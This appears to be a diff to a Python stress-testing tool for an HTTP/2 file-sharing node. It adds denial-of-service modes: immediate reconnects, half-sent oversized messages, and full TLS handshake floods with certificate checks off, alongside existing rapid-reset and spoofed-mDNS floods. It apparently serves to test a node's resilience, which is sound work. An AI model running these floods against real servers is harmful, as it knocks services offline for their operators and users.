@@ -28,6 +28,8 @@ END_STREAM, END_HEADERS, ACK = 1, 4, 1
 MOST_WINDOW = 2**31 - 1
 BURST = 50  # steps that are written at a time
 CALLS = 64  # of one connection under way, which is what a node allows
+FRAME = 16384  # bytes, the largest that HTTP/2 always takes
+HALF_MESSAGE = 500_000  # bytes; a node takes 512 KiB
 HANDSHAKE = 5  # seconds
 PAUSE = 0.2  # seconds before a connection that was refused or cut is opened anew
 
@@ -135,9 +137,22 @@ def idle(_):
     return False
 
 
-def spoken(_):
-    """Nothing to be asked for: a step that is only counted."""
-    return False
+def reconnect(_):
+    """The connection is closed as soon as it stands: each costs the node a handshake."""
+    raise ConnectionResetError
+
+
+def half_message(connection):
+    """Calls that send most of the largest message that a node takes, and never the rest."""
+    if len(connection.open) >= CALLS:
+        return False
+    stream = connection.next_stream()
+    connection.out += frame(HEADERS, END_HEADERS, stream, call_headers(FILE_SHARE + b"Fetch"))
+    connection.out += frame(DATA, 0, stream, b"\0" + struct.pack(">I", HALF_MESSAGE))
+    for _ in range(HALF_MESSAGE // FRAME - 1):
+        connection.out += frame(DATA, 0, stream, bytes(FRAME))
+    connection.open.add(stream)
+    return True
 
 
 def rapid_reset(connection):
@@ -186,6 +201,8 @@ def holding(method, payload, end):
 INTRODUCTION = message([(1, b"\x08\x01" + b"\x12\x05flood" + b"\x20\x09" + b"\x32\x05again")])
 FLOODS = {
     "idle": idle,
+    "reconnect": reconnect,
+    "half-messages": half_message,
     "rapid-reset": rapid_reset,
     "made-you-reset": made_you_reset,
     "made-overflow": made_you_reset,
@@ -319,6 +336,28 @@ class Members:
 # --- What strangers do ---------------------------------------------------------------------------
 
 
+def handshakes(options):
+    """Whole handshakes, one after the other, by somebody who has no certificate."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    turn, told = 0, False
+    while not stopped:
+        source = options.source[turn % len(options.source)]
+        turn += 1
+        try:
+            plain = socket.create_connection((options.host, options.port), 1, (source, 0))
+            with context.wrap_socket(plain) as sock:
+                done["handshakes"] += 1
+                sock.settimeout(1)
+                sock.recv(1)
+        except OSError:
+            done["refused"] += 1
+        if not told:
+            told = True
+            print("flooding", flush=True)
+
+
 def slow_handshakes(options):
     """A third says nothing, a third half a ClientHello, a third one of its bytes a second."""
     bio, context = ssl.MemoryBIO(), ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
@@ -430,7 +469,7 @@ def main():
 
     signal.signal(signal.SIGTERM, stop)
     parser = argparse.ArgumentParser()
-    strangers = {"nothing": nothing, "handshakes": slow_handshakes, "mdns": spoofed_mdns}
+    strangers = {"nothing": nothing, "handshakes": handshakes, "slow-handshakes": slow_handshakes, "mdns": spoofed_mdns}
     parser.add_argument("flood", choices=sorted([*FLOODS, *strangers]))
     parser.add_argument("host")
     parser.add_argument("port", type=int)
